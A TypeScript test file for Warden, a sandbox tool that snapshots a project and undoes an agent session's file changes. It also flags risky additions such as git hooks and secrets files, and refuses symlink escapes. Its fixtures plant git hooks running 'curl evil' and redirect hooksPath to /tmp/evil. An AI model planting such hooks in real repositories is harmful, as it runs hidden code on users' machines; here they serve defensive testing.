// The workspace keeper against real folders and the real git binary: an undo after a session that creates,
// edits, deletes and chmods restores the folder byte for byte (compared as a full listing of content hashes
// and modes, excluded folders and the project's .git included), preview changes nothing, review classifies
// and names the risky kinds, the needs_copy cases and nested repositories, and symbolic links pointing out of
// the project are never written through.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, unlinkSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { compare } from '../../src/sandbox/snapshot/compare.js';
import { GitWorkspace, SNAPSHOT_LIMITS, WorkspaceError } from '../../src/sandbox/snapshot/index.js';
import { restore } from '../../src/sandbox/snapshot/restore.js';
import { SnapshotRepo } from '../../src/sandbox/snapshot/store.js';
import { listProject } from '../../src/sandbox/snapshot/walk.js';

const base = mkdtempSync(join(tmpdir(), 'warden-snap-'));
after(() => rmSync(base, { recursive: true, force: true }));
let counter = 0;
const fresh = (label: string): string => {
  const dir = join(base, `${label}-${++counter}`);
  mkdirSync(dir, { recursive: true });
  return dir;
};

/** Every entry under `root` (nothing skipped): path, kind, exact mode, and the content hash or link target. */
function fingerprint(root: string, rel = ''): string[] {
  const lines: string[] = [];
  for (const name of readdirSync(join(root, rel)).sort()) {
    const path = rel === '' ? name : `${rel}/${name}`;
    const full = join(root, path);
    const stat = lstatSync(full);
    const mode = (stat.mode & 0o7777).toString(8);
    if (stat.isSymbolicLink()) lines.push(`${path} link ${readlinkSync(full)}`);
    else if (stat.isDirectory()) {
      lines.push(`${path}/ dir ${mode}`);
      lines.push(...fingerprint(root, path));
    } else lines.push(`${path} file ${mode} ${createHash('sha256').update(readFileSync(full)).digest('hex')}`);
  }
  return lines;
}

const write = (root: string, path: string, content: string | Buffer, mode?: number): void => {
  mkdirSync(join(root, path, '..'), { recursive: true });
  writeFileSync(join(root, path), content);
  if (mode !== undefined) chmodSync(join(root, path), mode);
};

const gitIn = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: process.env.PATH!, HOME: base, GIT_CONFIG_NOSYSTEM: '1' } });

/** A project with a bit of everything an undo must handle. */
function makeProject(): string {
  const root = fresh('project');
  gitIn(root, 'init', '-q');
  write(root, 'README.md', '# demo\n');
  write(root, 'src/main.ts', 'export const x = 1;\n');
  write(root, 'src/util/helpers.ts', 'export const y = 2;\n');
  write(root, 'scripts/run.sh', '#!/bin/sh\necho hi\n', 0o755);
  write(root, 'secret.txt', 'private\n', 0o600);
  write(root, 'docs/keep.md', 'kept\n', 0o640);
  write(root, 'crlf.txt', 'a\r\nb\r\n');
  write(root, 'lf.txt', 'a\nb\n');
  // Attributes that would make git convert line endings if Warden let them apply.
  write(root, '.gitattributes', 'crlf.txt text eol=lf\nlf.txt text eol=crlf\n');
  write(root, 'bin.dat', Buffer.from([0, 1, 2, 255, 254, 0]));
  write(root, 'node_modules/dep/index.js', 'module.exports = 1;\n');
  write(root, '.git/hooks/pre-commit', '#!/bin/sh\nexit 0\n', 0o755);
  mkdirSync(join(root, 'empty'));
  mkdirSync(join(root, 'locked'));
  write(root, 'locked/inside.txt', 'in\n');
  chmodSync(join(root, 'locked'), 0o750);
  symlinkSync('src/main.ts', join(root, 'main-link'));
  gitIn(root, 'add', '-A');
  gitIn(root, 'commit', '-q', '-m', 'init');
  return root;
}

/** A session's worth of changes of every kind. */
function session(root: string): void {
  write(root, 'src/new-file.ts', 'export const z = 3;\n');
  write(root, 'brand/new/deep/file.txt', 'deep\n');
  mkdirSync(join(root, 'added-empty'));
  write(root, 'src/main.ts', 'export const x = 42;\n');
  write(root, 'crlf.txt', 'changed\r\n');
  unlinkSync(join(root, 'src/util/helpers.ts'));
  rmSync(join(root, 'empty'), { recursive: true });
  chmodSync(join(root, 'README.md'), 0o755);
  chmodSync(join(root, 'secret.txt'), 0o644);
  chmodSync(join(root, 'scripts/run.sh'), 0o644);
  chmodSync(join(root, 'locked'), 0o700);
  unlinkSync(join(root, 'main-link'));
  symlinkSync('README.md', join(root, 'main-link'));
  rmSync(join(root, 'docs'), { recursive: true });
  write(root, 'docs', 'a file where a folder was\n');
  write(root, '.git/hooks/post-checkout', '#!/bin/sh\ncurl evil\n', 0o755);
  write(root, 'node_modules/dep/index.js', 'module.exports = 2;\n');
  gitIn(root, 'commit', '-q', '-am', 'agent commit');
}

describe('undo points', () => {
  let home: string;
  let ws: GitWorkspace;
  before(() => {
    home = fresh('home');
    ws = new GitWorkspace(home);
  });

  it('undo restores the folder byte for byte after creates, edits, deletes and chmods; preview changes nothing', async () => {
    const root = makeProject();
    const info = await ws.take('undo-1', root);
    assert.equal(info.kind, 'git');
    assert.match(info.ref, /^refs\/warden\/snapshots\//);
    assert.ok(existsSync(join(home, 'sandboxes', 'undo-1', 'snapshots.git', 'HEAD')));
    assert.equal(gitIn(root, 'for-each-ref', 'refs/warden').trim(), '', "the project's own .git gets no snapshot refs");
    assert.equal(await ws.hasChanges('undo-1', root), false);

    // node_modules is excluded: the listing it is compared with leaves it out too.
    const withoutExcluded = (lines: string[]) => lines.filter((l) => !l.startsWith('node_modules'));
    const gitState = (lines: string[]) => lines.filter((l) => l.startsWith('.git/') && !l.startsWith('.git/hooks') && !l.startsWith('.git/config') && !l.startsWith('.git/info'));
    const beforeSession = fingerprint(root);
    session(root);
    assert.equal(await ws.hasChanges('undo-1', root), true);

    const during = fingerprint(root);
    const preview = await ws.undo('undo-1', root, { preview: true, keepRefs: false });
    assert.equal(preview.preview, true);
    assert.deepEqual(fingerprint(root), during, 'preview changed nothing');
    const byPath = new Map(preview.changes.map((c) => [c.path, c]));
    assert.equal(byPath.get('src/new-file.ts')?.change, 'added');
    assert.equal(byPath.get('src/main.ts')?.change, 'modified');
    assert.equal(byPath.get('src/util/helpers.ts')?.change, 'deleted');
    assert.deepEqual(byPath.get('README.md'), { path: 'README.md', change: 'modified', mode_changed: true });
    assert.deepEqual(byPath.get('secret.txt'), { path: 'secret.txt', change: 'modified', mode_changed: true });
    assert.equal(byPath.get('.git/hooks/post-checkout')?.change, 'added');
    assert.equal(byPath.get('empty/')?.change, 'deleted');
    assert.equal(byPath.get('added-empty/')?.change, 'added');
    assert.equal(byPath.get('locked/')?.mode_changed, true);
    assert.ok(!preview.changes.some((c) => c.path.startsWith('node_modules')), 'excluded folders are not part of an undo');
    assert.match(preview.summary, /^would restore: \d+ added, \d+ modified, \d+ deleted/);

    const outcome = await ws.undo('undo-1', root, { preview: false, keepRefs: false });
    assert.equal(outcome.preview, false);
    assert.deepEqual(outcome.changes, preview.changes);
    const afterUndo = fingerprint(root);
    assert.deepEqual(withoutExcluded(afterUndo).filter((l) => !gitState(afterUndo).includes(l)), withoutExcluded(beforeSession).filter((l) => !gitState(beforeSession).includes(l)));
    assert.equal(readFileSync(join(root, 'node_modules/dep/index.js'), 'utf8'), 'module.exports = 2;\n', 'excluded content is left as the session left it');
    assert.match(gitIn(root, 'log', '--oneline'), /agent commit/, "the project's history is not rewritten");
    assert.equal(await ws.hasChanges('undo-1', root), false, 'the undo point is dropped: nothing to differ from');
    await assert.rejects(ws.undo('undo-1', root, { preview: true, keepRefs: false }), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_NO_SNAPSHOT' && err.statusCode === 404);
  });

  it('restores byte for byte, including the whole .git folder, when the session did not commit', async () => {
    const root = makeProject();
    await ws.take('undo-2', root);
    const beforeSession = fingerprint(root).filter((l) => !l.startsWith('node_modules'));
    write(root, 'a.txt', 'new\n');
    chmodSync(join(root, 'crlf.txt'), 0o600);
    write(root, 'lf.txt', 'x\n');
    unlinkSync(join(root, 'bin.dat'));
    write(root, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil\n');
    write(root, '.git/config', '[core]\n\thooksPath = /tmp/evil\n');
    await ws.undo('undo-2', root, { preview: false, keepRefs: true });
    assert.deepEqual(fingerprint(root).filter((l) => !l.startsWith('node_modules')), beforeSession);
    // keep_refs: the undo point is still there, and the folder now equals it.
    assert.equal(await ws.hasChanges('undo-2', root), false);
    const again = await ws.undo('undo-2', root, { preview: true, keepRefs: true });
    assert.deepEqual(again.changes, []);
  });

  it('a fresh snapshot replaces the previous undo point', async () => {
    const root = makeProject();
    const first = await ws.take('undo-3', root);
    write(root, 'later.txt', 'accepted\n');
    await new Promise((r) => setTimeout(r, 2));
    const second = await ws.take('undo-3', root);
    assert.notEqual(second.ref, first.ref);
    const refs = execFileSync('git', ['for-each-ref', '--format=%(refname)'], { env: { PATH: process.env.PATH!, GIT_DIR: join(home, 'sandboxes', 'undo-3', 'snapshots.git') }, encoding: 'utf8' });
    assert.deepEqual(refs.trim().split('\n'), [second.ref]);
    await ws.undo('undo-3', root, { preview: false, keepRefs: false });
    assert.equal(readFileSync(join(root, 'later.txt'), 'utf8'), 'accepted\n');
  });

  it('never writes through a symbolic link pointing out of the project', async () => {
    const root = makeProject();
    const outside = fresh('outside');
    write(outside, 'victim.txt', 'untouched\n');
    const outsideBefore = fingerprint(outside);
    await ws.take('undo-4', root);
    // The folder src/ becomes a link to a folder outside; a file becomes a link to a file outside.
    rmSync(join(root, 'src'), { recursive: true });
    symlinkSync(outside, join(root, 'src'));
    unlinkSync(join(root, 'README.md'));
    symlinkSync(join(outside, 'victim.txt'), join(root, 'README.md'));
    chmodSync(join(outside, 'victim.txt'), 0o644);
    const review = await ws.review('undo-4', root, { diff: false });
    assert.ok(review.report.deleted.includes('src/main.ts'), 'files behind the link are not read as the project’s');
    await ws.undo('undo-4', root, { preview: false, keepRefs: false });
    assert.deepEqual(fingerprint(outside), outsideBefore, 'nothing outside the project changed');
    assert.ok(lstatSync(join(root, 'src')).isDirectory() && !lstatSync(join(root, 'src')).isSymbolicLink());
    assert.equal(readFileSync(join(root, 'src/main.ts'), 'utf8'), 'export const x = 1;\n');
    assert.ok(lstatSync(join(root, 'README.md')).isFile());
    assert.equal(readFileSync(join(root, 'README.md'), 'utf8'), '# demo\n');
  });

  it('a .git folder replaced by a link out of the project gets nothing written through it', async () => {
    const root = makeProject();
    await ws.take('undo-7', root);
    const outside = fresh('outside-git');
    rmSync(join(root, '.git'), { recursive: true });
    symlinkSync(outside, join(root, '.git'));
    write(root, 'README.md', 'changed\n');
    const outcome = await ws.undo('undo-7', root, { preview: false, keepRefs: false });
    assert.deepEqual(readdirSync(outside), []);
    assert.match(outcome.summary, /\.git folder is gone/);
    assert.equal(readFileSync(join(root, 'README.md'), 'utf8'), '# demo\n');
  });

  it('refuses to write through a folder that became a link after the comparison (a writer racing the undo)', async () => {
    const root = fresh('project');
    write(root, 'pkg/file.txt', 'one\n');
    const repo = new SnapshotRepo(join(home, 'sandboxes', 'race'));
    await repo.ensure();
    const listing = await listProject(root);
    const snapshot = await repo.commit(root, await repo.writeTrees(root, listing), listing);
    unlinkSync(join(root, 'pkg/file.txt'));
    const now = await listProject(root);
    const comparison = await compare(repo.scope(), snapshot, { listing: now, trees: await repo.writeTrees(root, now) });
    // Between the comparison and the writes, pkg/ becomes a link to a folder outside.
    const outside = fresh('outside');
    rmSync(join(root, 'pkg'), { recursive: true });
    symlinkSync(outside, join(root, 'pkg'));
    await assert.rejects(restore(repo.scope(), root, snapshot, comparison), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_UNSAFE_PATH');
    assert.deepEqual(readdirSync(outside), []);
  });

  it('removes a link that replaced a folder instead of following it', async () => {
    const root = fresh('project');
    write(root, 'pkg/file.txt', 'one\n');
    await ws.take('undo-5', root);
    const outside = fresh('outside');
    // The session replaces pkg/ by a link; the link itself is an added entry and is removed, never followed.
    rmSync(join(root, 'pkg'), { recursive: true });
    symlinkSync(outside, join(root, 'pkg'));
    await ws.undo('undo-5', root, { preview: false, keepRefs: false });
    assert.deepEqual(readdirSync(outside), []);
    assert.equal(readFileSync(join(root, 'pkg/file.txt'), 'utf8'), 'one\n');
  });

  it('refuses names that are not sandbox names and folders that do not exist', async () => {
    const root = fresh('project');
    await assert.rejects(ws.take('../escape', root), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_PROJECT_INVALID');
    await assert.rejects(ws.take('ok', join(root, 'missing')), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_PROJECT_INVALID');
    await assert.rejects(ws.review('nothing-here', root, { diff: false }), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_NO_SNAPSHOT');
    assert.equal(await ws.hasChanges('nothing-here', root), false);
    write(root, 'f.txt', 'x\n');
    await ws.take('other-folder', root);
    const other = fresh('project');
    const isProjectInvalid = (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_PROJECT_INVALID' && /another folder/.test(err.message);
    await assert.rejects(ws.undo('other-folder', other, { preview: false, keepRefs: false }), isProjectInvalid);
    await assert.rejects(ws.hasChanges('other-folder', other), isProjectInvalid);
    assert.deepEqual(readdirSync(other), [], 'an undo point is never applied to another folder');
  });

  it('remove forgets the undo points', async () => {
    const root = fresh('project');
    write(root, 'f.txt', 'x\n');
    await ws.take('undo-6', root);
    await ws.remove('undo-6');
    assert.equal(existsSync(join(home, 'sandboxes', 'undo-6', 'snapshots.git')), false);
    await assert.rejects(ws.undo('undo-6', root, { preview: true, keepRefs: false }), (err: unknown) => err instanceof WorkspaceError && err.code === 'WARDEN_ERR_SANDBOX_NO_SNAPSHOT');
  });
});

describe('review', () => {
  const ws = new GitWorkspace(fresh('home'));

  it('classifies added, modified and deleted files and names each risky kind in risk_line', async () => {
    const root = makeProject();
    write(root, 'package.json', '{"name":"demo"}\n');
    write(root, 'tool.py', 'print(1)\n');
    await ws.take('review-1', root);
    const quiet = await ws.review('review-1', root, { diff: false });
    assert.deepEqual(quiet.report, { added: [], modified: [], deleted: [] });
    assert.match(quiet.risk_line, /^risk: none/);
    assert.equal(quiet.summary, '0 added, 0 modified, 0 deleted');

    write(root, '.github/workflows/ci.yml', 'on: push\n');
    write(root, 'package.json', '{"name":"demo","dependencies":{"left-pad":"1.0.0"}}\n');
    write(root, 'package-lock.json', '{}\n');
    write(root, '.env', 'TOKEN=x\n');
    write(root, 'certs/server.pem', '-----BEGIN-----\n');
    write(root, 'tool.py', '#!/usr/bin/env python3\nprint(1)\n');
    chmodSync(join(root, 'README.md'), 0o755);
    write(root, '.git/hooks/pre-push', '#!/bin/sh\n', 0o755);
    unlinkSync(join(root, 'lf.txt'));
    const review = await ws.review('review-1', root, { diff: false });
    assert.deepEqual(review.report.added, ['.env', '.git/hooks/pre-push', '.github/workflows/ci.yml', 'certs/server.pem', 'package-lock.json']);
    assert.deepEqual(review.report.modified, ['README.md', 'package.json', 'tool.py']);
    assert.deepEqual(review.report.deleted, ['lf.txt']);
    assert.equal(review.summary, '5 added, 3 modified, 1 deleted (1 with mode changes)');
    assert.equal(review.diff, undefined);
    assert.equal(
      review.risk_line,
      'risk: git hooks (.git/hooks/pre-push), CI files (.github/workflows/ci.yml), dependency manifests (package-lock.json +1 more), executables (.git/hooks/pre-push +2 more), secrets-like files (.env +1 more)',
    );
    assert.ok(!review.risk_line.includes('\n'));
  });

  it('names each kind on its own', async () => {
    const cases: [string, (root: string) => void, RegExp][] = [
      ['hooks', (r) => write(r, '.husky/pre-commit', 'npm test\n'), /^risk: git hooks \(\.husky\/pre-commit\)$/],
      ['ci', (r) => write(r, '.gitlab-ci.yml', 'job: {}\n'), /^risk: CI files \(\.gitlab-ci\.yml\)$/],
      ['manifest', (r) => write(r, 'sub/requirements-dev.txt', 'pytest\n'), /^risk: dependency manifests \(sub\/requirements-dev\.txt\)$/],
      ['exec-mode', (r) => chmodSync(join(r, 'src/main.ts'), 0o700), /^risk: executables \(src\/main\.ts\)$/],
      ['exec-shebang', (r) => write(r, 'src/main.ts', '#!/usr/bin/env node\n'), /^risk: executables \(src\/main\.ts\)$/],
      ['secrets', (r) => write(r, 'keys/id_rsa', 'k\n'), /^risk: secrets-like files \(keys\/id_rsa\)$/],
    ];
    for (const [label, change, expected] of cases) {
      const root = fresh('project');
      write(root, 'src/main.ts', 'x\n');
      await ws.take(`kind-${label}`, root);
      change(root);
      assert.match((await ws.review(`kind-${label}`, root, { diff: false })).risk_line, expected, label);
    }
  });

  it('answers the unified diff when asked, and cuts a large one with a note', async () => {
    const root = fresh('project');
    write(root, 'a.txt', 'one\ntwo\n');
    write(root, 'big.txt', 'x\n'.repeat(10));
    await ws.take('review-2', root);
    write(root, 'a.txt', 'one\nTWO\n');
    const small = await ws.review('review-2', root, { diff: true });
    assert.match(small.diff!, /^diff --git a\/a\.txt b\/a\.txt$/m);
    assert.match(small.diff!, /^-two$/m);
    assert.match(small.diff!, /^\+TWO$/m);
    assert.doesNotMatch(small.diff!, /truncated/);

    write(root, 'big.txt', 'y'.repeat(100) + '\n'.repeat(1) + 'z\n'.repeat(SNAPSHOT_LIMITS.maxDiffBytes / 2));
    const large = await ws.review('review-2', root, { diff: true });
    assert.ok(large.diff!.length <= SNAPSHOT_LIMITS.maxDiffBytes + 200);
    assert.match(large.diff!, /# diff truncated at 1048576 bytes; the report lists every changed file\n$/);
    assert.deepEqual(large.report.modified, ['a.txt', 'big.txt']);
  });
});

describe('project checks', () => {
  const ws = new GitWorkspace(fresh('home'));

  it('a plain folder and an ordinary repository can be mounted live', async () => {
    assert.deepEqual(await ws.checkProject(fresh('plain')), { nested_repos: [] });
    const repo = fresh('repo');
    gitIn(repo, 'init', '-q');
    assert.deepEqual(await ws.checkProject(repo), { nested_repos: [] });
  });

  it('needs a copy for a linked worktree, a .git symlink and a git directory outside the folder', async () => {
    const main = fresh('main');
    gitIn(main, 'init', '-q');
    write(main, 'f.txt', 'x\n');
    gitIn(main, 'add', '-A');
    gitIn(main, 'commit', '-q', '-m', 'x');
    const linked = join(fresh('wt'), 'linked');
    gitIn(main, 'worktree', 'add', '-q', linked);
    assert.match((await ws.checkProject(linked)).needs_copy!, /linked worktree/);

    const symlinked = fresh('symlinked');
    symlinkSync(join(main, '.git'), join(symlinked, '.git'));
    assert.match((await ws.checkProject(symlinked)).needs_copy!, /\.git is a symbolic link/);

    const separate = fresh('separate');
    const gitDir = join(fresh('gitdirs'), 'separate.git');
    gitIn(separate, 'init', '-q', `--separate-git-dir=${gitDir}`);
    assert.match((await ws.checkProject(separate)).needs_copy!, /git directory is outside it/);
  });

  it('lists nested repositories, skipping excluded folders', async () => {
    const root = fresh('nest');
    gitIn(root, 'init', '-q');
    for (const sub of ['libs/a', 'libs/b/deep', 'vendor/c']) {
      mkdirSync(join(root, sub), { recursive: true });
      gitIn(join(root, sub), 'init', '-q');
    }
    mkdirSync(join(root, 'node_modules/pkg'), { recursive: true });
    gitIn(join(root, 'node_modules/pkg'), 'init', '-q');
    write(root, 'sub/.git', 'gitdir: ../.git/modules/sub\n');
    const check = await ws.checkProject(root);
    assert.equal(check.needs_copy, undefined);
    assert.deepEqual(check.nested_repos, ['libs/a', 'libs/b/deep', 'sub', 'vendor/c']);
  });

  it('nested repositories are restored as plain files by an undo', async () => {
    const root = fresh('nest-undo');
    mkdirSync(join(root, 'inner'));
    gitIn(join(root, 'inner'), 'init', '-q');
    write(root, 'inner/code.txt', 'v1\n');
    await ws.take('nest-undo', root);
    write(root, 'inner/code.txt', 'v2\n');
    const review = await ws.review('nest-undo', root, { diff: false });
    assert.deepEqual(review.report.modified, ['inner/code.txt']);
    await ws.undo('nest-undo', root, { preview: false, keepRefs: false });
    assert.equal(readFileSync(join(root, 'inner/code.txt'), 'utf8'), 'v1\n');
  });
});
